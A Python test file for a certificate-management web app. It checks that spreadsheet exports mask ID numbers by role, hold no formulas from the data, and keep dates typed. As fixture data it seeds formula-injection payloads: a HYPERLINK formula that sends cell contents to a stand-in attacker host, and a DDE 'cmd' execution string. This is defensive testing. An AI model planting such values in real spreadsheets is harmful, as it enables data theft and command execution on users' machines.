"""Every spreadsheet the product hands out, walked as a clerk and as a viewer (inline and as a
background job): no whole ID number, no formula from the data, and the cells stay typed."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from app.extensions import db as _db
from tests.conftest import TODAY, follow_job, login, token
from tests.factories import CertificateFactory, OfficerFactory, UnitFactory
from tests.online_data import exam_with_bank

EVIL = '=HYPERLINK("http://evil.example/?"&A2,"点击查看")'
SPREADSHEET = ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "text/csv")
# The annotated copy of an upload is the uploader's own sheet, to fix and import again: it keeps
# the numbers they typed (only they or an administrator may open it). Formulas are still checked.
OWN_UPLOAD = "imports.errors_xlsx"


@pytest.fixture(autouse=True)
def _today(set_today):
    set_today(TODAY)


@pytest.fixture
def data(app, runner, tmp_path):
    """Demo data, an officer whose name and position are formulas (with certificates that put
    them in every report: expired, expiring, on the public list), an exam with access codes."""
    from app.demo import seed
    from app.settings.services import set_value

    exam_id, _codes = exam_with_bank(app, runner, tmp_path, 2, open_now=False)
    with app.app_context():
        seed(count=12, seed=5, today=TODAY)
        unit = UnitFactory(name="+城市管理科")
        evil = OfficerFactory(name=EVIL, position="-1+cmd|' /C calc'!A0", unit=unit)
        CertificateFactory(officer=evil, number="@SUM(1)", issued_on=TODAY - timedelta(2000),
                           expires_on=TODAY - timedelta(5))
        CertificateFactory(officer=evil, number="=CMD2", issued_on=TODAY - timedelta(100),
                           expires_on=TODAY + timedelta(20))
        lapsed = OfficerFactory(name="过期人", unit=unit)
        CertificateFactory(officer=lapsed, number="C-OLD", issued_on=TODAY - timedelta(2000),
                           expires_on=TODAY - timedelta(5))
        set_value("public_list_enabled", "是")
        _db.session.commit()
        evil_id = evil.id_number
    res = runner.invoke(args=["exams", "enrol", str(exam_id), "--id-number", evil_id])
    assert res.exit_code == 0, res.output
    return {"exam_id": exam_id}


def _all_id_numbers(app) -> list[str]:
    from app.models.officers import Officer

    with app.app_context():
        return list(_db.session.scalars(_db.select(Officer.id_number)))


def _upload(client, app, tmp_path) -> str:
    """The signed-in user's own import batch (with the formula name) → its token."""
    from app.models.imports import ImportBatch

    path = tmp_path / "人员.csv"
    path.write_text(f"姓名,身份证号,单位\n{EVIL},123,城市管理科\n", encoding="utf-8-sig")
    form = {"csrf_token": token(client, "/imports"), "kind": "officers",
            "file": (io.BytesIO(path.read_bytes()), path.name)}
    resp = client.post("/imports/upload", data=form, content_type="multipart/form-data")
    assert resp.status_code == 302, resp.get_data(as_text=True)[:300]
    with app.app_context():
        return _db.session.scalars(_db.select(ImportBatch.token).order_by(ImportBatch.id.desc())).first()


def export_urls(app, values: dict[str, list[str]]) -> list[tuple[str, str]]:
    """(endpoint, url) of every route whose URL ends in .xlsx or .csv, each argument filled in."""
    out = []
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or not re.search(r"(\.xlsx|\.csv|\(xlsx, csv\):fmt>)$", rule.rule):
            continue
        urls = [rule.rule]
        for arg in sorted(rule.arguments):
            assert arg in values, f"{rule.rule}: no test value for <{arg}>"
            pattern = re.compile(rf"<(?:[^<>]*:)?{arg}>")
            urls = [pattern.sub(v, u) for u in urls for v in values[arg]]
        out += [(rule.endpoint, u) for u in urls]
    return out


def check_file(url: str, resp, ids: list[str], *, own_upload: bool = False) -> list[str]:
    problems = []
    if resp.mimetype.startswith("text/csv"):
        text = resp.data.decode("utf-8-sig")
        parts = {"csv": text}
        for row in csv.reader(io.StringIO(text)):
            for field in row:
                if field and field[0] in "=+-@" and not re.fullmatch(r"-?\d+(\.\d+)?", field):
                    problems.append(f"{url}: CSV field starts a formula: {field!r}")
    else:
        with zipfile.ZipFile(io.BytesIO(resp.data)) as z:
            parts = {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}
        for name, xml in parts.items():
            if name.startswith("xl/worksheets/") and re.search(r"<f[ >]", xml):
                problems.append(f"{url}: {name} holds a formula")
    if not own_upload:
        for name, text in parts.items():
            leaked = [n for n in ids if n in text]
            if leaked:
                problems.append(f"{url}: {name} shows whole ID numbers {leaked[:2]}")
    return problems


@pytest.mark.parametrize("as_job", [False, True], ids=["inline", "job"])
@pytest.mark.parametrize("role", ["clerk", "viewer"])
def test_every_export_masks_ids_and_carries_no_formula(app, runner, tmp_path, data, role, as_job):
    from app.importing.base import importers

    client = app.test_client()
    login(client, app, role)
    if as_job:  # every export big enough: the worker replays it as the user who asked
        assert runner.invoke(args=["settings", "set", "job_threshold_rows", "0"]).exit_code == 0
    upload_token = _upload(client, app, tmp_path) if role == "clerk" else "none"
    values = {"exam_id": [str(data["exam_id"])], "kind": list(importers()), "token": [upload_token],
              "fmt": ["xlsx", "csv"]}
    ids = _all_id_numbers(app)
    walked, problems = [], []
    for endpoint, url in export_urls(app, values):
        resp = follow_job(client, client.get(url))
        if resp.status_code == 403:
            continue
        assert resp.status_code == 200, (url, resp.status_code, resp.get_data(as_text=True)[:300])
        assert resp.mimetype.startswith(SPREADSHEET), (url, resp.mimetype)
        walked.append(url)
        problems += check_file(url, resp, ids, own_upload=endpoint == OWN_UPLOAD)
    # the anonymous public list too
    public = app.test_client().get("/public/officers.xlsx")
    assert public.status_code == 200
    problems += check_file("/public/officers.xlsx (anonymous)", public, ids)
    assert not problems, "\n".join(problems)
    must = {"/officers.xlsx", "/flags.xlsx", "/flags.csv", "/reminders.xlsx", "/training/ledger.xlsx",
            "/exams.xlsx", "/reviews.xlsx", "/certificates.xlsx"}
    if role == "clerk":
        must |= {f"/exams/{data['exam_id']}/online/codes.xlsx", f"/imports/b/{upload_token}/errors.xlsx"}
    assert must <= set(walked), must - set(walked)


def test_the_access_code_sheet_masks_ids_and_keeps_the_name_as_text(app, client, data):
    """The exam's code sheet: masked numbers for a clerk, the formula name as plain text."""
    from app.idnumber import mask

    login(client, app, "clerk")
    resp = client.get(f"/exams/{data['exam_id']}/online/codes.xlsx")
    assert resp.status_code == 200
    ws = load_workbook(io.BytesIO(resp.data)).active
    rows = {r[1].value: r for r in ws.iter_rows(min_row=2)}
    evil = rows[EVIL]
    assert evil[1].data_type == "s" and evil[1].quotePrefix
    ids = _all_id_numbers(app)
    shown = [r[0].value for r in rows.values()]
    assert all(x not in ids for x in shown)
    assert sorted(shown) == sorted(mask(x) for x in ids if mask(x) in shown) and len(shown) == 3


def test_an_administrator_still_gets_whole_numbers(app, client, data):
    """The masking is by role: the administrator's code sheet keeps the whole numbers."""
    login(client, app, "admin")
    ws = load_workbook(io.BytesIO(client.get(f"/exams/{data['exam_id']}/online/codes.xlsx").data)).active
    shown = {r[0].value for r in ws.iter_rows(min_row=2)}
    assert len(shown) == 3 and shown <= set(_all_id_numbers(app))


def test_dates_are_dates_shown_in_chinese_and_days_are_numbers(app, client, data):
    """剩余天数 sorts as a number, an expired one reads 已过期; dates read 2024年3月1日."""
    login(client, app, "viewer")
    ws = load_workbook(io.BytesIO(client.get("/flags.xlsx").data)).active
    header = [c.value for c in ws[2]]
    rows = [dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=3)]
    soon = next(r for r in rows if r["证件编号"].value == "=CMD2")
    assert soon["剩余天数"].data_type == "n" and soon["剩余天数"].value == 20
    assert soon["有效期至"].is_date and soon["有效期至"].value.date() == TODAY + timedelta(20)
    assert soon["有效期至"].number_format == 'yyyy"年"m"月"d"日"'
    expired = next(r for r in rows if r["证件编号"].value == "C-OLD")["剩余天数"]
    assert expired.data_type == "n" and expired.value == -5 and '"已过期"' in expired.number_format
    # every date cell of every list export is shown the same way
    for url in ("/officers.xlsx", "/certificates.xlsx", "/reminders.xlsx", "/public/officers.xlsx"):
        ws = load_workbook(io.BytesIO(follow_job(client, client.get(url)).data)).active
        dates = [c for line in ws.iter_rows(min_row=3) for c in line if c.is_date]
        assert dates, url
        assert {c.number_format for c in dates} == {'yyyy"年"m"月"d"日"'}, url
    ws = load_workbook(io.BytesIO(client.get("/reminders.xlsx").data)).active
    header = [c.value for c in ws[2]]
    days = [r[header.index("剩余天数")] for r in ws.iter_rows(min_row=3)]
    assert days and all(c.data_type == "n" and isinstance(c.value, int) for c in days)
    assert 20 in [c.value for c in days]  # the expiring certificate, as a number
